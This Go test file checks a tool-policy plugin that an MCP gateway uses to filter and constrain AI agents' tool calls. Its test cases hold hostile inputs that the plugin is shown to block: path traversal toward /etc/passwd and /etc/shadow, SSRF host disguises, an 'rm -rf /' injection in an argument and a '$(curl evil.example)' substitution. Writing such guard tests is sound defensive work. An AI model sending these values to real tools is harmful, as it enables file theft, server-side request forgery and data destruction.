package toolpolicy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/portcullis-mcp/portcullis/abi"
	"github.com/portcullis-mcp/portcullis/host/config"
	"github.com/portcullis-mcp/portcullis/host/plugin"
	"github.com/portcullis-mcp/portcullis/host/plugin/plugintest"
	"github.com/portcullis-mcp/portcullis/plugins"
)

// load runs the module the gateway binary embeds.
func load(t testing.TB) (*plugin.Plugin, *plugintest.Sink) {
	t.Helper()
	b, ok := plugins.Lookup("tool-policy")
	if !ok {
		t.Fatal("tool-policy is not embedded: run plugins/build.sh")
	}
	return plugintest.Load(t, b.Wasm, plugin.Spec{Name: "tool-policy", Version: b.Manifest.Version, Hooks: []abi.Hook{abi.HookRequestGuard, abi.HookToolFilter}})
}

// policy is a realistic config: no shell anywhere, a read-only file server confined to
// /srv/data, a fetch tool confined to the company's hosts, a search tool with bounded
// arguments, and deployments for the ops team only.
const policy = `{"rules":[
  {"id":"no-shell","tools":["run_*","exec*"],"action":"deny","reason":"shell access is not allowed"},
  {"id":"fs-writes","servers":["fs"],"tools":["write_file","edit_file","move_file"],"action":"deny"},
  {"id":"fs-read","servers":["fs"],"tools":["read_*","list_*","search_files"],"required":["path"],
   "args":{"path":{"path_prefix":["/srv/data"]},"*":{"max_length":4096}}},
  {"id":"fetch","tools":["fetch"],"forbidden":["headers"],
   "args":{"url":{"allowed_hosts":["example.com","*.example.com","10.1.0.0/16"],"max_length":2048}}},
  {"id":"search","tools":["search"],"args":{"query":{"max_length":200},"lang":{"enum":["en","de"]},
   "limit":{"enum":[10,20,50]},"repo":{"regex":"[a-z0-9-]+/[a-z0-9._-]+"}}},
  {"id":"ops-deploy","teams":["ops"],"tools":["deploy"]},
  {"id":"no-deploy","tools":["deploy"],"action":"deny"}
]}`

// toolCall is a tools/call request whose arguments are the raw JSON args.
func toolCall(tool, args string) []byte {
	return []byte(`{"jsonrpc":"2.0","id":"c-9","method":"tools/call","params":{"name":` + strconv.Quote(tool) + `,"arguments":` + args + `}}`)
}

type call struct {
	server, tool, team, args string
}

func run(t testing.TB, p *plugin.Plugin, hook abi.Hook, config string, c call, frame []byte) abi.Verdict {
	t.Helper()
	in := abi.Input{Hook: hook, Direction: hook.Direction(), Server: c.server, Tool: c.tool, Agent: "agent-1", Team: c.team, Config: []byte(config), Frame: frame}
	var v abi.Verdict
	if err := p.Call(context.Background(), &in, time.Second, &v); err != nil {
		t.Fatalf("call: %v", err)
	}
	return v
}

type finding struct {
	Rule, Check, Where, Action, Server, Tool string
}

func findings(t *testing.T, s *plugintest.Sink) []finding {
	t.Helper()
	var out []finding
	for _, e := range s.Take("tool-policy.finding") {
		var f finding
		if err := json.Unmarshal([]byte(e), &f); err != nil {
			t.Fatalf("event %q: %v", e, err)
		}
		out = append(out, f)
	}
	return out
}

func TestToolPolicy_Calls(t *testing.T) {
	p, s := load(t)
	long := strings.Repeat("why is the build slow ", 10)
	tests := []struct {
		name  string
		c     call
		want  string // "" allows; else the block reason's text after "tool-policy: "
		check string // the finding's check, for blocks
	}{
		// Which tools: the first matching rule decides, the default allows.
		{"shell anywhere", call{"ops", "run_command", "", `{"command":"ls"}`}, `rule "no-shell" denies ops/run_command: shell access is not allowed`, "deny"},
		{"exec glob", call{"dev", "execute_sql", "", `{"sql":"select 1"}`}, `rule "no-shell" denies dev/execute_sql: shell access is not allowed`, "deny"},
		{"writes on fs", call{"fs", "write_file", "", `{"path":"/srv/data/a.txt","content":"x"}`}, `rule "fs-writes" denies fs/write_file`, "deny"},
		{"writes elsewhere", call{"git", "write_file", "", `{"path":"README.md","content":"x"}`}, "", ""},
		{"no rule", call{"demo", "echo", "", `{"message":"hi"}`}, "", ""},
		{"team allowed", call{"k8s", "deploy", "ops", `{"app":"web"}`}, "", ""},
		{"team denied", call{"k8s", "deploy", "dev", `{"app":"web"}`}, `rule "no-deploy" denies k8s/deploy`, "deny"},
		// Paths: canonicalised before the prefix check.
		{"path inside", call{"fs", "read_text_file", "", `{"path":"/srv/data/notes/plan.md"}`}, "", ""},
		{"relative path inside", call{"fs", "read_text_file", "", `{"path":"notes/plan.md"}`}, "", ""},
		{"dot-dot that stays inside", call{"fs", "list_directory", "", `{"path":"/srv/data/notes/../reports"}`}, "", ""},
		{"path outside", call{"fs", "read_text_file", "", `{"path":"/etc/passwd"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"sibling prefix", call{"fs", "read_text_file", "", `{"path":"/srv/database/dump.sql"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"dot-dot out", call{"fs", "read_text_file", "", `{"path":"/srv/data/../../etc/passwd"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"relative escape", call{"fs", "read_text_file", "", `{"path":"../secrets.txt"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"encoded escape", call{"fs", "read_text_file", "", `{"path":"/srv/data/%2e%2e/%2e%2e/etc/passwd"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"fullwidth escape", call{"fs", "read_text_file", "", `{"path":"/srv/data/．．/．．/etc/passwd"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"backslash escape", call{"fs", "read_text_file", "", `{"path":"notes\\..\\..\\x"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"file url outside", call{"fs", "read_text_file", "", `{"path":"file:///etc/passwd"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"nul byte", call{"fs", "read_text_file", "", `{"path":"/srv/data/a.txt\u0000.png"}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"path missing", call{"fs", "read_text_file", "", `{"file":"/srv/data/a"}`}, `rule "fs-read": arguments.path is required`, "required"},
		{"path not a string", call{"fs", "read_text_file", "", `{"path":42}`}, `rule "fs-read": arguments.path is not a string`, "path_prefix"},
		{"paths in an array", call{"fs", "read_multiple_files", "", `{"path":["/srv/data/a","/etc/shadow"]}`}, `rule "fs-read": arguments.path is outside the allowed path prefixes`, "path_prefix"},
		{"any argument too long", call{"fs", "search_files", "", `{"path":"/srv/data","pattern":"` + strings.Repeat("a", 4097) + `"}`}, `rule "fs-read": arguments.pattern is longer than 4096 characters`, "max_length"},
		// Hosts: canonicalised like the ssrf plugin does.
		{"host allowed", call{"web", "fetch", "", `{"url":"https://docs.example.com/guide"}`}, "", ""},
		{"apex allowed", call{"web", "fetch", "", `{"url":"https://example.com/"}`}, "", ""},
		{"range allowed", call{"web", "fetch", "", `{"url":"http://10.1.2.3:8080/status"}`}, "", ""},
		{"userinfo is not the host", call{"web", "fetch", "", `{"url":"https://evil.net@docs.example.com/"}`}, "", ""},
		{"host outside", call{"web", "fetch", "", `{"url":"https://example.com.evil.net/"}`}, `rule "fetch": arguments.url names a host that is not allowed`, "allowed_hosts"},
		{"userinfo disguise", call{"web", "fetch", "", `{"url":"https://docs.example.com@evil.net/"}`}, `rule "fetch": arguments.url names a host that is not allowed`, "allowed_hosts"},
		{"backslash disguise", call{"web", "fetch", "", `{"url":"https://docs.example.com\\@evil.net/"}`}, `rule "fetch": arguments.url names a host that is not allowed`, "allowed_hosts"},
		{"loopback", call{"web", "fetch", "", `{"url":"http://0x7f000001/"}`}, `rule "fetch": arguments.url names a host that is not allowed`, "allowed_hosts"},
		{"other range", call{"web", "fetch", "", `{"url":"http://10.2.0.1/"}`}, `rule "fetch": arguments.url names a host that is not allowed`, "allowed_hosts"},
		{"not a url", call{"web", "fetch", "", `{"url":"see the docs"}`}, `rule "fetch": arguments.url is not a URL or host`, "allowed_hosts"},
		{"forbidden argument", call{"web", "fetch", "", `{"url":"https://example.com/","headers":{"Cookie":"x"}}`}, `rule "fetch": arguments.headers is not allowed`, "forbidden"},
		{"url too long", call{"web", "fetch", "", `{"url":"https://example.com/` + strings.Repeat("a", 2048) + `"}`}, `rule "fetch": arguments.url is longer than 2048 characters`, "max_length"},
		// Lengths, enumerations, patterns.
		{"search ok", call{"code", "search", "", `{"query":"flaky test","lang":"en","limit":20,"repo":"portcullis-mcp/portcullis"}`}, "", ""},
		{"query too long", call{"code", "search", "", `{"query":"` + long + `"}`}, `rule "search": arguments.query is longer than 200 characters`, "max_length"},
		{"lang not listed", call{"code", "search", "", `{"query":"x","lang":"fr"}`}, `rule "search": arguments.lang is not one of the allowed values`, "enum"},
		{"lang list", call{"code", "search", "", `{"query":"x","lang":["en","fr"]}`}, `rule "search": arguments.lang is not one of the allowed values`, "enum"},
		{"limit number", call{"code", "search", "", `{"query":"x","limit":30}`}, `rule "search": arguments.limit is not one of the allowed values`, "enum"},
		{"limit as text", call{"code", "search", "", `{"query":"x","limit":"20"}`}, `rule "search": arguments.limit is not one of the allowed values`, "enum"},
		{"repo pattern", call{"code", "search", "", `{"query":"x","repo":"portcullis-mcp/portcullis; rm -rf /"}`}, `rule "search": arguments.repo does not match the pattern`, "regex"},
		{"repo pattern is whole", call{"code", "search", "", `{"query":"x","repo":"../a/b"}`}, `rule "search": arguments.repo does not match the pattern`, "regex"},
		{"repeated arguments", call{"web", "fetch", "", `{"url":"https://example.com"},"arguments":{"url":"https://evil.net"}`}, `rule "fetch": arguments.url names a host that is not allowed`, "allowed_hosts"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := run(t, p, abi.HookRequestGuard, policy, tt.c, toolCall(tt.c.tool, tt.c.args))
			fs := findings(t, s)
			if tt.want == "" {
				if v.Action != abi.ActionAllow || len(fs) != 0 {
					t.Fatalf("got %s %q, findings %+v; want allow", v.Action, v.Payload, fs)
				}
				return
			}
			if v.Action != abi.ActionBlock || string(v.Payload) != "tool-policy: "+tt.want {
				t.Fatalf("got %s %q, want block %q", v.Action, v.Payload, "tool-policy: "+tt.want)
			}
			if len(fs) != 1 || fs[0].Check != tt.check || fs[0].Action != "block" || fs[0].Server != tt.c.server || fs[0].Tool != tt.c.tool {
				t.Fatalf("findings %+v, want one %s", fs, tt.check)
			}
		})
	}
}

func TestToolPolicy_ConfigVariants(t *testing.T) {
	p, s := load(t)
	tests := []struct {
		name, config string
		c            call
		want         string
		action       string // the finding's action; "" when none
	}{
		{"default deny", `{"default":"deny","rules":[{"tools":["read_*"]}]}`, call{"fs", "write_file", "", `{}`}, "fs/write_file is not allowed (no rule matches and the default is deny)", "block"},
		{"default deny allows listed", `{"default":"deny","rules":[{"tools":["read_*"]}]}`, call{"fs", "read_file", "", `{}`}, "", ""},
		{"disable a rule", `{"disable":["no-shell"],"rules":[{"id":"no-shell","tools":["run_*"],"action":"deny"}]}`, call{"ops", "run_command", "", `{}`}, "", ""},
		{"first match wins", `{"rules":[{"id":"a","tools":["read_*"]},{"id":"b","tools":["read_secret"],"action":"deny"}]}`, call{"fs", "read_secret", "", `{}`}, "", ""},
		{"order matters", `{"rules":[{"id":"b","tools":["read_secret"],"action":"deny"},{"id":"a","tools":["read_*"]}]}`, call{"fs", "read_secret", "", `{}`}, `rule "b" denies fs/read_secret`, "block"},
		{"rule without id", `{"rules":[{"servers":["fs"],"action":"deny"}]}`, call{"fs", "x", "", `{}`}, `rule "rules[0]" denies fs/x`, "block"},
		{"monitor", `{"action":"monitor","rules":[{"tools":["*"],"action":"deny"}]}`, call{"fs", "x", "", `{}`}, "", "monitor"},
		{"monitor constraints", `{"action":"monitor","rules":[{"tools":["x"],"args":{"a":{"max_length":1}}}]}`, call{"fs", "x", "", `{"a":"long"}`}, "", "monitor"},
		{"agent glob", `{"rules":[{"agents":["ci-*"],"tools":["deploy"],"action":"deny"}]}`, call{"k8s", "deploy", "", `{}`}, "", ""},
		{"unicode regex", `{"rules":[{"tools":["x"],"args":{"name":{"regex":"(?i)\\w+"}}}]}`, call{"s", "x", "", `{"name":"Zoë"}`}, "", ""},
		{"base for relative paths", `{"rules":[{"tools":["x"],"args":{"p":{"path_prefix":["/srv/data"],"base":"/"}}}]}`, call{"s", "x", "", `{"p":"etc/passwd"}`}, `rule "rules[0]": arguments.p is outside the allowed path prefixes`, "block"},
		{"bool enum", `{"rules":[{"tools":["x"],"args":{"dry_run":{"enum":[true]}}}]}`, call{"s", "x", "", `{"dry_run":false}`}, `rule "rules[0]": arguments.dry_run is not one of the allowed values`, "block"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := run(t, p, abi.HookRequestGuard, tt.config, tt.c, toolCall(tt.c.tool, tt.c.args))
			if tt.want == "" && v.Action != abi.ActionAllow || tt.want != "" && (v.Action != abi.ActionBlock || string(v.Payload) != "tool-policy: "+tt.want) {
				t.Fatalf("got %s %q, want %q", v.Action, v.Payload, tt.want)
			}
			fs := findings(t, s)
			if tt.action == "" && len(fs) != 0 || tt.action != "" && (len(fs) != 1 || fs[0].Action != tt.action) {
				t.Fatalf("findings %+v, want action %q", fs, tt.action)
			}
		})
	}
	// Frames that are not tools/call pass.
	for _, frame := range []string{`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`, `{"jsonrpc":"2.0","id":2,"method":"tools/list"}`} {
		if v := run(t, p, abi.HookRequestGuard, `{"default":"deny"}`, call{server: "fs"}, []byte(frame)); v.Action != abi.ActionAllow {
			t.Fatalf("%s: %s %q", frame, v.Action, v.Payload)
		}
	}
}

// tools/list results as the gateway hands them to the filter: one server's tools.
func toolList(names ...string) []byte {
	var tools []string
	for _, n := range names {
		tools = append(tools, `{"name":`+strconv.Quote(n)+`,"description":"Tool `+n+`; see https://example.com/docs.","inputSchema":{"type":"object","properties":{"path":{"type":"string"}}},"annotations":{"readOnlyHint":true}}`)
	}
	return []byte(`{"jsonrpc":"2.0","id":0,"result":{"tools":[` + strings.Join(tools, ",") + `],"nextCursor":"page-2"}}`)
}

// listed parses a filtered list, checking it is valid JSON-RPC with the original id.
func listed(t *testing.T, frame []byte) []string {
	t.Helper()
	var r struct {
		JSONRPC string          `json:"jsonrpc"`
		ID      json.RawMessage `json:"id"`
		Result  struct {
			Tools      []map[string]any `json:"tools"`
			NextCursor string           `json:"nextCursor"`
		} `json:"result"`
	}
	if err := json.Unmarshal(frame, &r); err != nil {
		t.Fatalf("rewrite is not JSON: %v\n%s", err, frame)
	}
	if r.JSONRPC != "2.0" || string(r.ID) != "0" || r.Result.NextCursor != "page-2" {
		t.Fatalf("rewrite lost the envelope: %s", frame)
	}
	var names []string
	for _, tool := range r.Result.Tools {
		names = append(names, tool["name"].(string))
	}
	return names
}

func TestToolPolicy_ToolFilter(t *testing.T) {
	p, s := load(t)
	all := []string{"read_text_file", "write_file", "run_command", "list_directory", "move_file"}
	tests := []struct {
		name, config, server, team string
		want                       []string // nil: the list passes unchanged
	}{
		{"hides denied tools", policy, "fs", "", []string{"read_text_file", "list_directory"}},
		{"other server", policy, "git", "", []string{"read_text_file", "write_file", "list_directory", "move_file"}},
		{"nothing denied", `{"rules":[{"tools":["deploy"],"action":"deny"}]}`, "fs", "", nil},
		{"everything denied", `{"default":"deny"}`, "fs", "", []string{}},
		{"hide off", `{"hide":false,"default":"deny"}`, "fs", "", nil},
		{"monitor", `{"action":"monitor","default":"deny"}`, "fs", "", nil},
		{"per team", `{"rules":[{"teams":["ops"],"tools":["run_*"]},{"tools":["run_*"],"action":"deny"}]}`, "fs", "dev", []string{"read_text_file", "write_file", "list_directory", "move_file"}},
		{"per team allowed", `{"rules":[{"teams":["ops"],"tools":["run_*"]},{"tools":["run_*"],"action":"deny"}]}`, "fs", "ops", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			frame := toolList(all...)
			v := run(t, p, abi.HookToolFilter, tt.config, call{server: tt.server, team: tt.team}, frame)
			if tt.want == nil {
				if v.Action != abi.ActionAllow {
					t.Fatalf("got %s %q, want the list unchanged", v.Action, v.Payload)
				}
				s.Take("tool-policy.finding")
				return
			}
			if v.Action != abi.ActionRewrite {
				t.Fatalf("got %s %q, want a rewrite", v.Action, v.Payload)
			}
			if got := listed(t, v.Payload); !slices.Equal(got, tt.want) && !(len(got) == 0 && len(tt.want) == 0) {
				t.Fatalf("tools %v, want %v", got, tt.want)
			}
			// Kept tools are byte for byte what the server sent.
			for _, name := range tt.want {
				one := toolList(name)
				item := one[strings.Index(string(one), `{"name"`):strings.LastIndex(string(one), `],"nextCursor"`)]
				if !strings.Contains(string(v.Payload), string(item)) {
					t.Fatalf("tool %s changed in the rewrite", name)
				}
			}
			if fs := findings(t, s); len(fs) != len(all)-len(tt.want) || fs[0].Where != "tools/list" || fs[0].Action != "hide" {
				t.Fatalf("findings %+v", fs)
			}
		})
	}
	// A conditional allow (constraints on arguments) keeps the tool visible.
	v := run(t, p, abi.HookToolFilter, policy, call{server: "fs"}, toolList("read_text_file", "search_files"))
	if v.Action != abi.ActionAllow {
		t.Fatalf("constrained tools hidden: %s %q", v.Action, v.Payload)
	}
	// Escaped names are read as the client would.
	frame := []byte(`{"jsonrpc":"2.0","id":"x\"1","result":{"tools":[{"name":"run\u005fcommand"},{"name":"ok"}]}}`)
	v = run(t, p, abi.HookToolFilter, policy, call{server: "fs"}, frame)
	if v.Action != abi.ActionRewrite || string(v.Payload) != `{"jsonrpc":"2.0","id":"x\"1","result":{"tools":[{"name":"ok"}]}}` {
		t.Fatalf("got %s %q", v.Action, v.Payload)
	}
	s.Take("tool-policy.finding")
}

// A config the plugin cannot use blocks calls (and lists: the gateway then hides the server's
// tools), saying why.
func TestToolPolicy_BadConfig(t *testing.T) {
	p, _ := load(t)
	for _, tt := range []struct{ config, want string }{
		{`{"rules":[{"tools":["x"],"action":"maybe"}]}`, `rules[0].action must be "allow" or "deny"`},
		{`{"rules":[{"tools":["x"],"args":{"a":{"regex":"("}}}]}`, "rules[0].args.a.regex"},
		{`{"rules":[{"tools":["x"],"args":{"a":{"path_prefix":["relative"]}}}]}`, "must be an absolute path"},
		{`{"rules":[{"tools":["x"],"args":{"a":{"max_length":-1}}}]}`, "max_length must be a whole number"},
		{`{"rules":[{"tools":["x"],"args":{"a":{"enum":[]}}}]}`, "enum must be a non-empty list"},
		{`{"rules":[{"tools":["x"],"args":{"a":{"allowed_hosts":["10.0.0.0/40"]}}}]}`, "prefix longer than the address"},
		{`{"rules":[{"tools":["x"],"args":{"a":{"maxlen":3}}}]}`, `unknown check "maxlen"`},
		{`{"rules":[{"tools":["x"],"action":"deny","required":["a"]}]}`, "a deny rule cannot have them"},
		{`{"rules":[{"id":"a"},{"id":"a"}]}`, `id "a" is used twice`},
		{`{"rules":[{"tool":["x"],"toolz":["y"]}]}`, `unknown key "toolz"`},
		{`{"disable":["nope"]}`, `disable: no rule "nope"`},
		{`{"default":"block"}`, `default must be "allow" or "deny"`},
		{`{"rules":{}}`, "rules must be a list"},
		{`[]`, "config must be a JSON object"},
	} {
		for _, hook := range []abi.Hook{abi.HookRequestGuard, abi.HookToolFilter} {
			frame := toolCall("x", `{}`)
			if hook == abi.HookToolFilter {
				frame = toolList("x")
			}
			v := run(t, p, hook, tt.config, call{server: "s", tool: "x"}, frame)
			if v.Action != abi.ActionBlock || !strings.HasPrefix(string(v.Payload), "tool-policy: invalid config: ") || !strings.Contains(string(v.Payload), tt.want) {
				t.Errorf("%s config %s: got %s %q, want a block saying %q", hook, tt.config, v.Action, v.Payload, tt.want)
			}
		}
	}
}

// Through a real gateway in front of the demo server: denied tools disappear from tools/list
// and cannot be called by name; argument constraints hold.
func TestToolPolicy_GatewayDemo(t *testing.T) {
	yaml := `servers:
  - name: demo
    transport: demo
bindings:
  - name: policy
    plugin: tool-policy
    config:
      rules:
        - {id: no-confirm, tools: [confirm, summarize], action: deny, reason: "needs a human"}
        - id: short-echo
          tools: [echo]
          args: {message: {max_length: 40, regex: '[\w .,!?-]*'}}
`
	cs, sink := plugintest.Gateway(t, yaml, t.TempDir())
	res, err := cs.ListTools(context.Background(), &mcp.ListToolsParams{})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tool := range res.Tools {
		names = append(names, tool.Name)
	}
	if !slices.Contains(names, "demo__echo") || !slices.Contains(names, "demo__add") || slices.Contains(names, "demo__confirm") || slices.Contains(names, "demo__summarize") {
		t.Fatalf("tools/list shows %v", names)
	}
	if _, err := plugintest.CallText(cs, "demo__summarize", map[string]any{"text": "x"}); err == nil || !strings.Contains(err.Error(), `tool-policy: rule "no-confirm" denies demo/summarize: needs a human`) {
		t.Fatalf("calling a hidden tool by name: %v", err)
	}
	if got, err := plugintest.CallText(cs, "demo__echo", map[string]any{"message": "Hello, world!"}); err != nil || got != "Hello, world!" {
		t.Fatalf("echo: %q %v", got, err)
	}
	for _, msg := range []string{strings.Repeat("long ", 9), "$(curl evil.example)"} {
		if _, err := plugintest.CallText(cs, "demo__echo", map[string]any{"message": msg}); err == nil || !strings.Contains(err.Error(), `tool-policy: rule "short-echo": arguments.message`) {
			t.Fatalf("echo %q: %v", msg, err)
		}
	}
	if len(sink.Take("tool-policy.finding")) < 4 {
		t.Fatal("no finding events")
	}
}

// In front of the real filesystem server: writes are hidden and refused, reads confined.
func TestToolPolicy_GatewayFilesystem(t *testing.T) {
	script, _ := filepath.Abs("../../host/internal/e2e/testdata/npm/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")
	node, err := exec.LookPath("node")
	if err == nil {
		_, err = os.Stat(script)
	}
	if err != nil {
		if ci := os.Getenv("CI"); ci != "" && ci != "0" && ci != "false" {
			t.Fatalf("CI=%s and server-filesystem is unusable: %v", ci, err)
		}
		t.Skipf("server-filesystem fixture missing (%v); run `make npm-deps`", err)
	}
	root := t.TempDir()
	data := filepath.Join(root, "data")
	if err := os.MkdirAll(filepath.Join(data, "public"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(data, "public", "a.txt"), []byte("public"), 0o644)
	os.WriteFile(filepath.Join(data, "private.txt"), []byte("private"), 0o644)
	yaml := fmt.Sprintf(`servers:
  - name: fs
    command: %q
    args: [%q, %q]
bindings:
  - name: policy
    plugin: tool-policy
    config:
      default: deny
      rules:
        - id: read-public
          servers: [fs]
          tools: [read_text_file, list_directory, list_allowed_directories]
          args: {path: {path_prefix: [%q]}}
`, node, script, data, filepath.Join(data, "public"))
	cs, _ := plugintest.Gateway(t, yaml, t.TempDir())
	res, err := cs.ListTools(context.Background(), &mcp.ListToolsParams{})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, tool := range res.Tools {
		names = append(names, tool.Name)
	}
	slices.Sort(names)
	if !slices.Equal(names, []string{"fs__list_allowed_directories", "fs__list_directory", "fs__read_text_file"}) {
		t.Fatalf("tools/list shows %v", names)
	}
	if got, err := plugintest.CallText(cs, "fs__read_text_file", map[string]any{"path": filepath.Join(data, "public", "a.txt")}); err != nil || got != "public" {
		t.Fatalf("read public: %q %v", got, err)
	}
	for _, path := range []string{filepath.Join(data, "private.txt"), data + "/public/../private.txt", filepath.Join(data, "public") + "/%2e%2e/private.txt"} {
		if _, err := plugintest.CallText(cs, "fs__read_text_file", map[string]any{"path": path}); err == nil || !strings.Contains(err.Error(), "outside the allowed path prefixes") {
			t.Errorf("read %s: %v", path, err)
		}
	}
	if _, err := plugintest.CallText(cs, "fs__write_file", map[string]any{"path": filepath.Join(data, "public", "b.txt"), "content": "x"}); err == nil || !strings.Contains(err.Error(), "no rule matches and the default is deny") {
		t.Fatalf("write: %v", err)
	}
	if _, err := os.Stat(filepath.Join(data, "public", "b.txt")); err == nil {
		t.Fatal("the write reached the server")
	}
}

// The README's example bindings are valid gateway config, and the plugin accepts their config.
func TestToolPolicy_ReadmeExamples(t *testing.T) {
	p, _ := load(t)
	readme, err := os.ReadFile("README.md")
	if err != nil {
		t.Fatal(err)
	}
	blocks := strings.Split(string(readme), "```yaml\n")[1:]
	if len(blocks) == 0 {
		t.Fatal("README has no yaml example")
	}
	for _, block := range blocks {
		yaml := "servers:\n  - name: demo\n    transport: demo\n" + block[:strings.Index(block, "```")]
		cfg, err := config.Parse([]byte(yaml))
		if err != nil {
			t.Fatalf("README example:\n%s\n%v", yaml, err)
		}
		for _, b := range cfg.Bindings {
			if b.Plugin != "tool-policy" {
				t.Fatalf("binding %s uses %s", b.Name, b.Plugin)
			}
			raw, _ := json.Marshal(b.Config)
			if b.Config == nil {
				raw = nil
			}
			v := run(t, p, abi.HookRequestGuard, string(raw), call{"fs", "read_text_file", "", `{"path":"/srv/data/public/a"}`}, toolCall("read_text_file", `{"path":"/srv/data/public/a"}`))
			if v.Action == abi.ActionBlock && strings.Contains(string(v.Payload), "invalid config") {
				t.Fatalf("binding %s: %s", b.Name, v.Payload)
			}
		}
	}
}

// ~1 KiB tools/call allowed after checking its arguments against the policy.
var nomatch = toolCall("search_files", `{"path":"/srv/data/projects/portcullis","pattern":"**/*.md","excludePatterns":["node_modules","target"],"query":"`+
	strings.Repeat("How are calls routed between replicas when one is slow? ", 14)+`","request_id":"3f2b8c1e-9d4a-4b7e-8f21-6c0d5e4a7b19"}`)

func BenchmarkToolPolicy(b *testing.B) {
	bench := func(name string, hook abi.Hook, server, tool string, frame []byte, want abi.Action) {
		b.Run(name, func(b *testing.B) {
			p, _ := load(b)
			in := abi.Input{Hook: hook, Direction: hook.Direction(), Server: server, Tool: tool, Config: []byte(policy), Frame: frame}
			var v abi.Verdict
			b.SetBytes(int64(len(frame)))
			for b.Loop() {
				if err := p.Call(context.Background(), &in, time.Second, &v); err != nil || v.Action != want {
					b.Fatal(err, v.Action, string(v.Payload))
				}
			}
		})
	}
	if len(nomatch) < 1000 || len(nomatch) > 1100 {
		b.Fatalf("nomatch frame is %d bytes", len(nomatch))
	}
	bench("1KiB-nomatch", abi.HookRequestGuard, "fs", "search_files", nomatch, abi.ActionAllow)
	// tools/list of 150 tools (64 KiB), two of which the policy hides.
	names := []string{"write_file", "run_command"}
	for i := 0; len(toolList(names...)) < 64<<10; i++ {
		names = append(names, fmt.Sprintf("read_tool_%d", i))
	}
	bench("64KiB-result", abi.HookToolFilter, "fs", "", toolList(names...), abi.ActionRewrite)
	b.Run("instantiate", func(b *testing.B) {
		bi, _ := plugins.Lookup("tool-policy")
		e, err := plugin.NewEngine(plugin.EngineConfig{})
		if err != nil {
			b.Fatal(err)
		}
		defer e.Close(context.Background())
		spec := plugin.Spec{Name: "tool-policy", Version: "1", Hooks: []abi.Hook{abi.HookRequestGuard, abi.HookToolFilter}, Instances: 1}
		// The first load compiles the module (the gateway keeps compiled modules on disk);
		// each iteration then decodes, instruments and instantiates it, as a reload does.
		if p, err := e.Load(context.Background(), bi.Wasm, spec); err != nil {
			b.Fatal(err)
		} else {
			p.Close(context.Background())
		}
		for b.Loop() {
			p, err := e.Load(context.Background(), bi.Wasm, spec)
			if err != nil {
				b.Fatal(err)
			}
			p.Close(context.Background())
		}
		b.ReportMetric(float64(len(bi.Wasm)), "wasm-bytes")
	})
}
